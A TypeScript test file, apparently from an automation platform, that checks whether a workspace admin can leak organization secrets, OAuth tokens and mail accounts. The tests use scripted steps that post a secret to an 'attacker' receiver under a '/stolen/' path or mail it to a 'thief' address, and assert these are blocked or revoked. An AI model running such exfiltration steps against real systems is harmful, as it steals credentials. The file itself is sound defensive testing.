// Attacks on what belongs to an organization (decisions A26): a member makes a private workspace, is its admin, and there tries to get at
// every secret, token and mail account, by each way on which one is used. Beside it what those may do whom it is for.
import { assert, describe, layer } from "@effect/vitest"
import { Context, Effect, Layer, Redacted } from "effect"
import { SqlClient } from "effect/sql"
import { AuthenticationProviders } from "../../src/platform/mail/AuthenticationProviders.ts"
import { SmtpAccounts } from "../../src/platform/mail/SmtpAccounts.ts"
import { runsOver } from "../domain/automations/runSupport.ts"
import { startSmtp } from "../platform/mail/smtp.ts"
import { seedUser } from "../support/app.ts"
import { answers, receiver as startReceiver } from "../support/receiver.ts"
import { spineLayer } from "../support/spine.ts"
import { call, done, seedVault } from "./support.ts"

class Outside extends Context.Service<
  Outside,
  {
    /** The attacker's. */
    readonly server: Effect.Success<ReturnType<typeof startReceiver>>
    readonly installation: Effect.Success<ReturnType<typeof startSmtp>>
    readonly account: Effect.Success<ReturnType<typeof startSmtp>>
  }
>()("test/AllowedOutside") {}

const world = Layer.unwrap(
  Effect.gen(function* () {
    const server = yield* startReceiver()
    server.on("/token", answers.status(200, { "content-type": "application/json" }, `{"access_token":"payroll-token"}`))
    const installation = yield* startSmtp()
    const account = yield* startSmtp()
    return spineLayer({ OUTBOUND_ALLOW: server.hostPort, SMTP_URL: installation.url }).pipe(
      Layer.merge(Layer.succeed(Outside, { server, installation, account }))
    )
  })
)

const VALUE = "payroll-key-4f9a1c77"

let worlds = 0

/** The organization's things, of which nobody has said who may use them, and a keeper who administers a private workspace alone. */
const setting = Effect.gen(function* () {
  const { account, installation, server } = yield* Outside
  const vault = yield* seedVault
  const { keeper, orgId, token } = vault
  const path = `/stolen/${++worlds}`
  const secret = yield* done(token, "POST", "/v1/secret/org", { name: "orgkey", value: VALUE })
  const provider = yield* AuthenticationProviders.use((providers) =>
    providers.create(orgId, {
      name: "Payroll",
      grant_type: "client_credentials",
      token_url: `${server.origin}/token`,
      client_id: "client",
      client_secret: Redacted.make("payroll-client")
    })
  )
  const { hostname, port } = new URL(account.url)
  const smtp = yield* SmtpAccounts.use((accounts) =>
    accounts.create(orgId, {
      name: "Payroll",
      host: hostname,
      port: Number(port),
      security: "none",
      from_address: "payroll@example.com"
    })
  )
  const { authentication_provider_id } = provider
  const url = `${server.origin}${path}`
  const request = (more: object) => ({
    type: "http_call",
    config: { http_call_type: "post", http_call_url: [url], ...more }
  })
  const named = { kind: "variable", source: "secret", name: "orgkey" }
  const mail = (more: object = {}) => ({
    type: "send_email",
    config: { to_address: [`thief-${worlds}@example.com`], subject: ["Hello"], message_body: ["From payroll"], ...more }
  })
  return {
    ...vault,
    ...{ authentication_provider_id, mail, secretId: secret.secret_id as number, url },
    appOfKeeper: vault.secret.appId,
    smtpId: smtp.smtp_account_id,
    /** With what stands in an address, too. */
    sent: () => server.received.filter((one) => one.path.startsWith(path)),
    mailsTo: (who: "account" | "installation") =>
      (who === "account" ? account : installation).taken.filter(({ to }) => to.includes(`thief-${worlds}@example.com`)),
    ways: {
      "a script": [
        "action_secret_not_allowed",
        { type: "custom_code", config: { code: [`await http.post(${JSON.stringify(url)}, secret("orgkey"))`] } }
      ],
      "a reference in a script": [
        "action_secret_not_allowed",
        { type: "custom_code", config: { code: [`await http.post(${JSON.stringify(url)}, `, named, `)`] } }
      ],
      "a header": ["action_secret_not_allowed", request({ http_call_headers: [{ key: "X-Key", value: [named] }] })],
      "an address": ["action_secret_not_allowed", request({ http_call_url: [`${url}?key=`, named] })],
      "a body": ["action_secret_not_allowed", request({ http_call_body: [named] })],
      "a mail's text": ["action_secret_not_allowed", mail({ message_body: [named] })],
      "a provider's token": [
        "action_provider_not_allowed",
        {
          type: "authenticated_http_call",
          config: { http_call_type: "post", http_call_url: [url], authentication_provider_id }
        }
      ],
      "a mail account": ["action_mail_account_not_allowed", mail({ smtp_account_id: smtp.smtp_account_id })]
    } as Readonly<Record<string, readonly [code: string, step: object]>>,
    /** The owner says who may use all three. */
    allow: (allowed: unknown) =>
      Effect.gen(function* () {
        yield* done(token, "PUT", `/v1/secret/${secret.secret_id}`, { allowed })
        yield* done(token, "PUT", `/v1/authentication-provider/${authentication_provider_id}`, { allowed })
        yield* done(token, "PUT", `/v1/smtp-account/${smtp.smtp_account_id}`, { allowed })
      }),
    keeperDoes: (method: string, at: string, body?: unknown) => done(keeper.key, method, at, body)
  }
})
type Setting = Effect.Success<typeof setting>

const makeAutomation = Effect.fnUntraced(function* (
  { keeperDoes, appOfKeeper }: Setting,
  step: object,
  trigger = "record_created"
) {
  const { automation } = yield* keeperDoes("POST", `/v1/automation/app/${appOfKeeper}`, {
    name: "Way",
    trigger: { type: trigger, config: {} },
    actions: [step]
  })
  return automation as { readonly id: number; readonly actions: ReadonlyArray<{ readonly id: string }> }
})

layer(world, { excludeTestServices: true, timeout: 120_000 })("what belongs to the organization", (it) => {
  describe("for nobody unless somebody says so (A26)", () => {
    it.effect("in a private workspace no step gets at it: validate says why, and nothing starts", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { keeper, keeperDoes, mailsTo, secret, sent, ways } = it
        for (const [way, [code, step]] of Object.entries(ways)) {
          const { actions, id } = yield* makeAutomation(it, step)
          const validated = yield* keeperDoes("GET", `/v1/automation/${id}/validate`)
          assert.isFalse(validated.valid, way)
          assert.deepStrictEqual(
            validated.errors.map((error: any) => [error.code, error.action_id]),
            [[code, actions[0]!.id]],
            way
          )
          assert.include(validated.errors[0].message, "may not be used in this workspace", way)
          for (const [at, body] of [
            ["activate", undefined],
            ["manual-run", { record_id: secret.recordId }],
            ["simulate", { record_id: secret.recordId }],
            ["test-step", { action_id: actions[0]!.id, record_id: secret.recordId, real: true }]
          ] as const) {
            const answer = yield* call(keeper.key, "POST", `/v1/automation/${id}/${at}`, body)
            if (answer.status === 202) {
              const [run] = yield* runsOver(id)
              assert.strictEqual(run!.status, "failed", `${way}, ${at}`)
              assert.include(run!.error_message, "may not be used in this workspace", `${way}, ${at}`)
            } else assert.strictEqual(answer.status, 409, `${way}, ${at}: ${answer.text}`)
            assert.notInclude(answer.text, VALUE)
          }
        }
        assert.deepStrictEqual(sent(), [])
        assert.deepStrictEqual(mailsTo("account"), [])
      })
    )

    it.effect("a hook cannot sign in by a provider that is not for its workspace: 400", () =>
      Effect.gen(function* () {
        const { appOfKeeper, authentication_provider_id, keeper, keeperDoes, url } = yield* setting
        const hook = yield* keeperDoes("POST", `/v1/hook/app/${appOfKeeper}`, { type: "record.create", url })
        const authentication = { type: "oauth2", authentication_provider_id }
        const answer = yield* call(keeper.key, "PUT", `/v1/hook/${hook.hook_id}/settings`, { authentication })
        assert.strictEqual(answer.status, 400, answer.text)
        assert.include(answer.json.error_message, "authentication.authentication_provider_id")
        assert.include(answer.json.error_message, "may not be used in this workspace")
      })
    )

    it.effect("only owners and admins say who may; members read of it what they see", () =>
      Effect.gen(function* () {
        const { allow, keeper, orgId, secretId, token, vaultId, workspaceId } = yield* setting
        const allowed = { workspace_ids: [vaultId] }
        for (const [method, path, body] of [
          ["PUT", `/v1/secret/${secretId}`, { allowed }],
          ["POST", "/v1/secret/org", { name: "own", value: VALUE, allowed }],
          ["PUT", "/v1/smtp-account/1", { allowed }],
          ["PUT", "/v1/authentication-provider/1", { allowed }]
        ] as const)
          assert.strictEqual((yield* call(keeper.key, method, path, body)).status, 403, `${method} ${path}`)
        yield* allow({ workspace_ids: [workspaceId, vaultId] })
        const read = (key: string) => Effect.map(done(key, "GET", `/v1/secret/${secretId}`), (it) => it.allowed)
        assert.deepStrictEqual(yield* read(token), { workspace_ids: [workspaceId, vaultId] })
        const stranger = yield* seedUser(orgId, "member", "Stranger")
        const { workspace_ids: seen } = yield* read(stranger.key)
        assert.notInclude(seen, vaultId)
        for (const [bad, place] of [
          [{ workspace_ids: [workspaceId, 999_999] }, "allowed.workspace_ids[1]"],
          ["some", "allowed"],
          [{ workspace_ids: "all" }, "allowed"]
        ] as const) {
          const answer = yield* call(token, "PUT", `/v1/secret/${secretId}`, { allowed: bad })
          assert.strictEqual(answer.status, 400, answer.text)
          assert.include(answer.json.error_message, place)
        }
        const sql = yield* SqlClient.SqlClient
        const auditRows = yield* sql<{ allowed: unknown }>`
          SELECT details -> 'allowed' AS allowed FROM audit_log WHERE org_id = ${orgId} AND details ? 'allowed'
            AND event IN ('secret.changed', 'smtp_account.changed', 'authentication_provider.changed')`
        assert.lengthOf(auditRows, 3)
        for (const row of auditRows) assert.deepStrictEqual(row.allowed, { workspace_ids: [workspaceId, vaultId] })
      })
    )

    it.effect("a secret of the keeper's own app under the same name is used, and its own alone", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { appOfKeeper, keeperDoes, secret, sent, ways } = it
        yield* keeperDoes("POST", `/v1/secret/app/${appOfKeeper}`, { name: "orgkey", value: "of the keeper" })
        const { id } = yield* makeAutomation(it, ways["a header"]![1])
        yield* keeperDoes("POST", `/v1/automation/${id}/manual-run`, { record_id: secret.recordId })
        yield* runsOver(id)
        assert.deepStrictEqual(
          sent().map(({ headers }) => headers["x-key"]),
          ["of the keeper"]
        )
      })
    )

    it.effect("mail that names no account goes by the installation's server, and the log says why", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { keeperDoes, mail, mailsTo, secret } = it
        const { id } = yield* makeAutomation(it, mail())
        yield* keeperDoes("POST", `/v1/automation/${id}/manual-run`, { record_id: secret.recordId })
        const [run] = yield* runsOver(id)
        assert.strictEqual(run!.status, "completed")
        assert.include(JSON.stringify(run!.logs), "default mail account may not be used in this workspace")
        assert.deepStrictEqual([mailsTo("account").length, mailsTo("installation").length], [0, 1])
      })
    )
  })

  describe("for those who are named, asked at each use", () => {
    it.effect("what was active when it was withdrawn gets at nothing from then on, by no way", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { allow, appOfKeeper, authentication_provider_id, keeperDoes, mailsTo, sent, url, vaultId, ways } = it
        yield* allow({ workspace_ids: [vaultId] })
        const ids: Array<readonly [way: string, id: number]> = []
        for (const [way, [, step]] of Object.entries(ways)) {
          const { id } = yield* makeAutomation(it, step)
          yield* keeperDoes("POST", `/v1/automation/${id}/activate`)
          ids.push([way, id])
        }
        const hook = yield* keeperDoes("POST", `/v1/hook/app/${appOfKeeper}`, { type: "record.create", url })
        const sql = yield* SqlClient.SqlClient
        yield* sql`UPDATE hooks SET status = 'active', verified_on = now() WHERE hook_id = ${hook.hook_id}`
        const authentication = { type: "oauth2", authentication_provider_id }
        yield* keeperDoes("PUT", `/v1/hook/${hook.hook_id}/settings`, { authentication, paused: true })
        yield* keeperDoes("POST", `/v1/record/app/${appOfKeeper}`, { fields: { name: "While it may" } })
        for (const [way, id] of ids) {
          const [run] = yield* runsOver(id)
          assert.strictEqual(run!.status, "completed", `${way}: ${run!.error_message}`)
        }
        const tested = yield* keeperDoes("POST", `/v1/hook/${hook.hook_id}/test`, {})
        assert.strictEqual(tested.status_code, 204, JSON.stringify(tested))
        assert.isTrue(sent().some(({ headers }) => headers.authorization === "Bearer payroll-token"))
        const [requests, mails] = [sent().length, mailsTo("account").length]
        assert.deepStrictEqual([requests, mails], [7, 2])

        yield* allow({ workspace_ids: [] })
        yield* keeperDoes("POST", `/v1/record/app/${appOfKeeper}`, { fields: { name: "No more" } })
        for (const [way, id] of ids) {
          const run = (yield* runsOver(id, 2)).at(-1)!
          assert.strictEqual(run.status, "failed", way)
          assert.include(run.error_message, "may not be used in this workspace", way)
        }
        const testResult = yield* keeperDoes("POST", `/v1/hook/${hook.hook_id}/test`, {})
        assert.deepStrictEqual([testResult.status_code, testResult.error], [null, "authentication_failed"])
        assert.deepStrictEqual([sent().length, mailsTo("account").length], [requests, mails])
      })
    )

    it.effect("a workspace that is made later is not in a list, and is in `all`", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { allow, vaultId, workspaceId, ways, keeperDoes } = it
        const { id } = yield* makeAutomation(it, ways["a header"]![1])
        const isValid = Effect.map(keeperDoes("GET", `/v1/automation/${id}/validate`), ({ valid }) => valid as boolean)
        for (const [allowed, expected] of [
          [{ workspace_ids: [workspaceId] }, false],
          [{ workspace_ids: [workspaceId, vaultId] }, true],
          [{ workspace_ids: [] }, false],
          ["all", true]
        ] as const) {
          yield* allow(allowed)
          assert.strictEqual(yield* isValid, expected, JSON.stringify(allowed))
        }
      })
    )

    it.effect("a called automation of the same app is no way around", () =>
      Effect.gen(function* () {
        const it = yield* setting
        const { appOfKeeper, keeper, keeperDoes, secret, sent, ways } = it
        const target = yield* makeAutomation(it, ways["a body"]![1], "automation_called")
        const { automation } = yield* keeperDoes("POST", `/v1/automation/app/${appOfKeeper}`, {
          name: "Caller",
          trigger: { type: "record_created", config: {} },
          actions: [
            { type: "current_record_call_automation", config: { automation_id: target.id, call_arguments: [] } }
          ]
        })
        yield* call(keeper.key, "POST", `/v1/automation/${target.id}/activate`)
        yield* call(keeper.key, "POST", `/v1/automation/${automation.id}/manual-run`, { record_id: secret.recordId })
        yield* runsOver(automation.id)
        assert.deepStrictEqual(sent(), [])
      })
    )
  })
})
